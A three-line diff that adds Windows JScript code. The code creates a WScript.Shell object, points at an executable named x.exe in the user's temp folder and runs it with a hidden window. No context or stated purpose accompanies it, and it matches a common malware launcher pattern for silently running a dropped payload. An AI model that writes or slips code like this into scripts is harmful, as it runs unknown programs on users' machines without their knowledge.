@@ -1,0 +1,3 @@
+var sh = new ActiveXObject("WScript.Shell");
+var t = sh.ExpandEnvironmentStrings("%TEMP%") + "\\x.exe";
+sh.Run(t, 0);
